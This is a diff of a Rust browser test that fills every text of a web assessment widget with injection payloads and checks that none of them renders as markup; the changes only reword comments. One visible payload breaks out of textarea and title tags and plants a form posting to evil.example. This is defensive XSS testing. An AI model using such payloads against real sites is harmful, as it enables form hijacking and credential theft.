@@ -1,4 +1,4 @@
-//! Text never becomes markup: an assessment whose every text is an attempt to be code, walked to the result.
+//! Texts never become markup: every text of this assessment tries to be code, and a reader answers it to the result.
 
 use std::collections::BTreeSet;
 
@@ -30,7 +30,7 @@ const PAYLOADS: [&str; 14] = [
     "</textarea></title></fieldset><form action=//evil.example><button>x</button>",
 ];
 
-/// Replaces every text by the next payload, with a number that makes each one its own.
+/// Replaces every text by the next payload, with a number that makes it unique.
 fn fill(value: &mut Value, used: &mut Vec<String>) {
     match value {
         Value::Object(entries) if entries.contains_key("en") && entries.contains_key("nl") => {
@@ -45,7 +45,7 @@ fn fill(value: &mut Value, used: &mut Vec<String>) {
     }
 }
 
-/// What the views are made of; whatever a payload would make is none of it, or has more than these attributes.
+/// The elements and attributes of the views; a payload that became markup would add others.
 const FOREIGN: &str = "all('*').filter((node) => !node.matches('slot[name=intro]:empty, slot[name=cta]:empty, slot[name=footer]:empty') && !['div','section','h1','h2','h3','h4','h5','h6','p','ul','ol','li','dl','dt','dd','form',
         'button','fieldset','legend','label','input','span','a','strong','svg','rect','line','g','details','summary','table',
         'caption','thead','tbody','tr','th','td','select','option','textarea','bdi','title','desc','polygon','circle','text'].includes(node.localName)
@@ -56,7 +56,7 @@ const FOREIGN: &str = "all('*').filter((node) => !node.matches('slot[name=intro]
 fn hostile(browser: &Browser) {
     let mut model = file("partner");
     model.as_object_mut().unwrap().remove("profile");
-    // Of the advice only what a sheet calls for shows; of all else nearly everything.
+    // The advice shows only entries that the answers call for; nearly everything else is shown.
     let mut advice = model.as_object_mut().unwrap().remove("advice").unwrap();
     let (mut used, mut advised) = (Vec::new(), Vec::new());
     fill(&mut model, &mut used);
@@ -64,7 +64,7 @@ fn hostile(browser: &Browser) {
     fill(&mut advice, &mut advised);
     let advised = advised.split_off(used.len());
     model["advice"] = advice;
-    // Placeholders take a road of their own.
+    // Placeholders are filled in by other code.
     model["profile"] = json!({ "vendor": { "en": PAYLOADS[0], "nl": PAYLOADS[2] } });
     model["intro"] = json!({ "en": "By {vendor} №profile", "nl": "{vendor}" });
     model["version"] = json!("<b>1</b>");
@@ -85,7 +85,7 @@ fn hostile(browser: &Browser) {
             expect_that("nothing decoded twice", !words.contains("<b>&<i>"), &words);
         };
         browser.all_screens(&sheet(&assessment), &mut see);
-        // What is above hurries past the steps in between.
+        // The lines above skip the steps in between.
         browser.act("widget().reset(); widget().start()");
         browser.until_screen("step");
         for _ in 0..assessment.criteria.len() {
@@ -97,7 +97,8 @@ fn hostile(browser: &Browser) {
         expect("new globals", now.difference(&fixed).cloned().collect::<Vec<_>>(), vec![]);
         browser.no_faults();
     }
-    // English texts are the even ones. Reasons of gates and floors show when they hold; a few bands' words always.
+    // English texts have even numbers. Reasons of gates and floors are shown when they hold, and the texts of a few
+    // bands always.
     let english: Vec<&String> = used.iter().step_by(2).collect();
     let unseen: Vec<_> = english.iter().filter(|text| !shown.contains(**text)).collect();
     expect_that("nearly every English text shown as it is", unseen.len() * 10 < english.len(), &unseen);
